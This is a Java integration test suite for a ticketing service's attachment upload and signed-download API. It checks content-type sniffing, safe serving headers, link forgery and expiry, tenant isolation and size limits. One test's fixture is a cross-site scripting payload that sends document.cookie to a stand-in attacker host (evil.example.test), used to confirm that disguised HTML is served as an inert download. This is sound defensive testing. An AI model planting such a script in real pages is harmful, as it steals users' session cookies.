package io.pharos.ticket.attachments;

import static io.pharos.ticket.attachments.Uploads.local;
import static io.pharos.ticket.attachments.Uploads.upload;
import static io.pharos.ticket.attachments.Uploads.uploaded;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.UUID;

import jakarta.inject.Inject;

import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.Test;

import io.pharos.attachments.AttachmentLinks;
import io.pharos.attachments.ContentAddress;
import io.pharos.testing.KeycloakTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;

/**
 * An agent's upload and its signed download against the real store (S3Proxy): what comes back is
 * byte for byte what went in, typed by its content, served so that a browser never runs it, and
 * only to whoever holds a valid link (and, with a bearer token, only within the token's tenant).
 */
@QuarkusTest
class AttachmentApiTest {

    static final String ANNA = KeycloakTokens.user("anna");
    static final String ACME = KeycloakTokens.integrator("acme");
    static final String GLOBEX = KeycloakTokens.integrator("globex");

    @Inject
    AttachmentLinks links;

    @ConfigProperty(name = "quarkus.http.test-port")
    int port;

    @Test
    void anUploadDownloadsByteForByteWithTheHeadersThatKeepBrowsersSafe() {
        JsonPath image = uploaded(ANNA, Uploads.PNG, "parcel.txt", "text/plain");
        assertThat(image.getString("contentType")).as("typed by the bytes, not the name or the declared type").isEqualTo("image/png");
        assertThat(image.getString("status")).isEqualTo("stored");
        assertThat(image.getLong("size")).isEqualTo(Uploads.PNG.length);
        assertThat(image.getString("sha256")).isEqualTo(ContentAddress.sha256(Uploads.PNG));
        assertThat(image.getString("scan.verdict")).isEqualTo("not_scanned");
        String id = image.getString("id");

        JsonPath metadata = given().auth().oauth2(ANNA).get("/api/v1/attachments/" + id).then().statusCode(200).extract().jsonPath();
        assertThat(metadata.getString("fileName")).isEqualTo("parcel.txt");
        Response png = given().get(local(metadata.getString("downloadUrl")));
        assertThat(png.statusCode()).isEqualTo(200);
        assertThat(png.asByteArray()).isEqualTo(Uploads.PNG);
        assertThat(png.header("Content-Type")).isEqualTo("image/png");
        assertThat(png.header("Content-Disposition")).startsWith("inline;");
        assertThat(png.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(png.header("Content-Security-Policy")).isEqualTo("sandbox");
        assertThat(png.header("Cache-Control")).matches("private, max-age=(8[5-9]\\d|900)");

        String name = "Τιμολόγιο 4711 \"final\".txt";
        byte[] text = ("Αριθμός παραγγελίας 4711 " + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8);
        JsonPath document = upload(ANNA, text, "ignored.bin", "application/octet-stream", name).statusCode(201).extract().jsonPath();
        assertThat(document.getString("fileName")).as("the fileName field names it").isEqualTo(name);
        assertThat(document.getString("contentType")).isEqualTo("text/plain");
        Response served = given().get(local(document.getString("downloadUrl")));
        assertThat(served.asByteArray()).isEqualTo(text);
        assertThat(served.header("Content-Disposition")).isEqualTo("attachment; filename=\"_________ 4711 _final_.txt\"; filename*=UTF-8''"
                + URLEncoder.encode(name, StandardCharsets.UTF_8).replace("+", "%20"));
    }

    @Test
    void htmlNamedPdfIsHtmlAndIsServedAsAnOpaqueDownload() {
        byte[] html = ("<html><body><script>document.location='https://evil.example.test/?'+document.cookie</script>" + UUID.randomUUID()
                + "</body></html>").getBytes(StandardCharsets.UTF_8);
        JsonPath invoice = uploaded(ANNA, html, "invoice.pdf", "application/pdf");
        assertThat(invoice.getString("contentType")).isEqualTo("text/html");
        Response served = given().get(local(invoice.getString("downloadUrl")));
        assertThat(served.statusCode()).isEqualTo(200);
        assertThat(served.header("Content-Type")).isEqualTo("application/octet-stream");
        assertThat(served.header("Content-Disposition")).startsWith("attachment; filename=\"invoice.pdf\"");
        assertThat(served.asByteArray()).isEqualTo(html);
    }

    @Test
    void aLinkMustBeAuthenticCurrentForThisFileAndOfTheBearersTenant() {
        String id = uploaded(ACME, ("acme only " + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8), "notes.txt", "text/plain").getString("id");
        UUID file = UUID.fromString(id);
        String valid = local(links.downloadUrl(file));

        given().get(local(links.downloadUrl(file, Duration.ofSeconds(-1)))).then().statusCode(403)
                .contentType("application/problem+json").body("type", equalTo("urn:pharos:problem:attachment-link-invalid"));
        String token = valid.substring(valid.indexOf("token=") + 6);
        String forged = token.substring(0, token.length() - 2) + (token.endsWith("AA") ? "BB" : "AA");
        given().get("/api/v1/attachments/" + id + "/content?token=" + forged).then().statusCode(403);
        given().get("/api/v1/attachments/" + id + "/content").then().statusCode(403);
        String another = local(links.downloadUrl(UUID.randomUUID()));
        given().get("/api/v1/attachments/" + id + "/content?" + another.substring(another.indexOf("token="))).then().statusCode(403);

        // the link works without a token and with one of its own tenant; never with another tenant's
        given().get(valid).then().statusCode(200);
        given().auth().oauth2(ACME).get(valid).then().statusCode(200);
        given().auth().oauth2(GLOBEX).get(valid).then().statusCode(404).contentType("application/problem+json");
        given().auth().oauth2(GLOBEX).get("/api/v1/attachments/" + id).then().statusCode(404);
        UUID unknown = UUID.randomUUID();
        given().get(local(links.downloadUrl(unknown))).then().statusCode(404);
    }

    @Test
    void aFileOverTheTenantsLimitIsRefusedAsAProblem() {
        // globex accepts files of at most 2048 bytes in tests (application.properties)
        upload(GLOBEX, new byte[2049], "big.bin", "application/octet-stream", null).statusCode(413)
                .contentType("application/problem+json").body("type", equalTo("urn:pharos:problem:attachment-too-large"));
        uploaded(GLOBEX, ("small " + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8), "small.txt", "text/plain");
        upload(ANNA, new byte[0], "empty.txt", "text/plain", null).statusCode(400).body("type", equalTo("urn:pharos:problem:attachment-empty"));
        given().auth().oauth2(ANNA).multiPart("other", "x").post("/api/v1/attachments").then().statusCode(400)
                .body("type", equalTo("urn:pharos:problem:attachment-missing"));
    }

    @Test
    void aBodyOverTheHttpLimitIsRefusedAsAProblemBeforeItIsRead() throws Exception {
        // declared larger than quarkus.http.limits.max-body-size (30M): answered on the headers (Expect: 100-continue)
        long declared = 31L * 1024 * 1024;
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/attachments")).expectContinue(true)
                .header("Authorization", "Bearer " + ANNA).header("Content-Type", "multipart/form-data; boundary=x")
                .POST(HttpRequest.BodyPublishers.fromPublisher(HttpRequest.BodyPublishers.ofByteArray(new byte[1024]), declared)).build();
        HttpResponse<String> answer = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build().send(request, HttpResponse.BodyHandlers.ofString());
        assertThat(answer.statusCode()).isEqualTo(413);
        assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        assertThat(answer.body()).contains("urn:pharos:problem:body-too-large");
    }
}
